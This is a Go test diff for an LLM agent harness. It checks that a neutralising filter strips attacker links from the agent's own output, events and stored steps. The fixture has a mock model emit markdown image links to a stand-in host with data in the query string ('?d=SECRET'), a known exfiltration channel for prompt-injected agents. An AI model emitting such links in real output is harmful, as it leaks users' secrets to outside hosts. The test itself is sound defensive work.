@@ -334,3 +334,23 @@ func TestModelErrorFails(t *testing.T) {
 		t.Fatalf("empty config: %v", err)
 	}
 }
+
+func TestNeutraliseOwnOutput(t *testing.T) {
+	f := newFixture(t, policy.Options{Continuous: true}, nil,
+		llm.Response{Message: llm.Message{Content: "see ![x](https://attacker.test/p?d=1)", ToolCalls: []llm.ToolCall{call("1", "finish", `{"reason":"done ![x](https://attacker.test/p?d=SECRET)"}`)}}},
+	)
+	f.cfg.Neutralise = func(s string) string { return strings.ReplaceAll(s, "https://attacker.test", "[link removed]") }
+	s := f.run(t, context.Background())
+	if strings.Contains(s.Outcome, "attacker.test") || !strings.Contains(s.Outcome, "[link removed]") || strings.Contains(s.Outcome, "SECRET") {
+		t.Fatalf("outcome = %q", s.Outcome)
+	}
+	for _, e := range f.events {
+		if strings.Contains(e.Text, "attacker.test") || strings.Contains(e.Output, "attacker.test") {
+			t.Fatalf("event %s carries the link: %+v", e.Type, e)
+		}
+	}
+	steps, _ := f.st.Steps(context.Background(), "local", s.TaskID)
+	if strings.Contains(steps[0].Output, "attacker.test") {
+		t.Fatalf("stored finish output = %q", steps[0].Output)
+	}
+}
